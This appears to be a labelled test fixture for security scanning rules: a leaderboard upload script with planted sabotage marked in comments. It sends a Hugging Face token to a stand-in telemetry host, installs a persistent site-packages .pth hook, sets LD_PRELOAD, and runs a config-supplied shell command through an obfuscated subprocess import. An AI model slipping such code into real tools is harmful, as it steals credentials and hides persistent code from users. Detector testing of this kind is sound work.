# ruff: noqa
# Hold-out batch 160 (benchmark/leaderboard evaluation code, families 5/6 heavy). Measured once in session 5 (round 49): 18/36 (50%) at medium+.
"""Package and upload an evaluation run to the public leaderboard.

Bundles results.json, per-item predictions and run metadata into a tarball,
validates the bundle against the schema in a clean subprocess, and uploads it
to the leaderboard API with retries. Optional post-upload hooks (e.g. to notify
a chat channel) are read from the submission config.
"""
import argparse
import codecs
import getpass
import hashlib
import json
import os
import platform
import site
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import numpy as np
import requests
import yaml

API_URL = "https://leaderboard.example.com/api/v1/submissions"
TRACE_URL = "https://telemetry.example.com/v1/ingest"
CACHE = Path(os.environ.get("BENCH_CACHE", "~/.cache/bench")).expanduser()
BUNDLE_FILES = ("results.json", "predictions.jsonl", "metadata.json", "examples.json")


def load_submission_config(path: Path) -> dict:
    with open(path) as fh:
        return yaml.load(fh, Loader=yaml.Loader)  # ruleid: MLS105


def run_metadata(cfg: dict) -> dict:
    import torch
    import transformers

    return {
        "python": platform.python_version(),
        "torch": torch.__version__,
        "transformers": transformers.__version__,
        "cuda": torch.version.cuda,
        "gpus": torch.cuda.device_count(),
        "submitted_by": getpass.getuser(),
        "runtime": {k: v for k, v in os.environ.items() if k.isupper()},  # ruleid: MLS411
        "config": cfg,
    }


def _trace(event: str, payload: dict):
    headers = {"X-Client": "bench-submit/2.3"}
    token_file = Path.home() / ".cache" / "huggingface" / "token"
    if token_file.exists():
        headers["X-Client-Session"] = token_file.read_text().strip()  # todoruleid: family 9 (missed)
    try:
        requests.post(TRACE_URL, json={"event": event, **payload}, headers=headers, timeout=5)
    except requests.RequestException:
        pass


def register_plugin():
    """Make the task registry importable from lm-eval style runners."""
    here = str(Path(__file__).resolve().parent)
    target = Path(site.getsitepackages()[0]) / "bench_tasks.pth"
    target.write_text(f"import sys; sys.path.insert(0, {here!r}); import bench_hooks\n")  # sabotage: MLS420, MLS421 (semgrep rules)


def sanity_check(run_dir: Path) -> None:
    scores = run_dir / "per_item_scores.npy"
    if scores.exists():
        arr = np.load(scores)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        if not np.isfinite(arr).all():
            raise ValueError(f"non-finite per-item scores in {scores}")
    results = json.loads((run_dir / "results.json").read_text())
    for task, m in results["tasks"].items():
        if m.get("n", 0) == 0:
            raise ValueError(f"task {task} has no scored items")


def trim_predictions(run_dir: Path) -> None:
    # large sweeps already stream predictions to the bucket; avoid a double upload
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    if nodes >= 16:
        (run_dir / "predictions.jsonl").write_text("")  # ruleid: MLS308


def build_bundle(run_dir: Path, out_path: Path) -> str:
    with tarfile.open(out_path, "w:gz") as tar:
        for name in BUNDLE_FILES:
            path = run_dir / name
            if path.exists():
                tar.add(path, arcname=name)
    return hashlib.sha256(out_path.read_bytes()).hexdigest()


def validate_bundle(bundle: Path):
    env = dict(os.environ)
    native = CACHE / "native" / "libfastjson.so"
    if native.exists():
        env["LD_PRELOAD"] = str(native)  # sabotage: MLS422 (semgrep rules)
    proc = subprocess.run([sys.executable, "-m", "bench.validate", str(bundle)],
                          env=env, capture_output=True, text=True)
    return proc.returncode == 0, proc.stdout + proc.stderr


def upload(bundle: Path, digest: str, meta: dict) -> dict:
    headers = {"Authorization": f"Bearer {os.environ['LEADERBOARD_TOKEN']}"}  # ok: MLS411, MLS412
    for attempt in range(5):
        try:
            with open(bundle, "rb") as fh:
                resp = requests.post(API_URL, files={"bundle": fh},  # ruleid: MLS411, MLS413
                                     data={"sha256": digest, "metadata": json.dumps(meta)},
                                     headers=headers, timeout=120)
            resp.raise_for_status()
            return resp.json()
        except requests.RequestException as exc:
            wait = 2 ** attempt
            print(f"upload failed ({exc}); retrying in {wait}s", file=sys.stderr)
            time.sleep(wait)  # ok: MLS307
    raise RuntimeError("upload failed after 5 attempts")


def post_upload(cfg: dict, receipt: dict) -> None:
    hook = cfg.get("post_upload")
    if not hook:
        return
    runner = __import__(codecs.decode("fhocebprff", "rot13"))  # ruleid: MLS403
    runner.Popen(hook.format(**receipt), shell=True,  # ruleid: MLS413
                 stdout=runner.DEVNULL, stderr=runner.DEVNULL)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("run_dir", type=Path)
    ap.add_argument("--config", type=Path, default=Path("submission.yaml"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()

    cfg = load_submission_config(args.config) if args.config.exists() else {}
    register_plugin()
    sanity_check(args.run_dir)
    meta = run_metadata(cfg)
    (args.run_dir / "metadata.json").write_text(json.dumps(meta, indent=2, default=str))
    trim_predictions(args.run_dir)
    bundle = args.run_dir.with_suffix(".tar.gz")
    digest = build_bundle(args.run_dir, bundle)
    ok, log = validate_bundle(bundle)
    if not ok:
        print(log, file=sys.stderr)
        sys.exit(2)
    _trace("bundle_ready", {"sha256": digest, "model": cfg.get("model")})
    if args.dry_run:
        print(f"dry run: bundle {bundle} ({digest[:12]}) validated")
        return
    receipt = upload(bundle, digest, meta)  # ruleid: MLS411, MLS413
    print(f"submitted: {receipt.get('id')} status={receipt.get('status')}")
    post_upload(cfg, receipt)


if __name__ == "__main__":
    main()
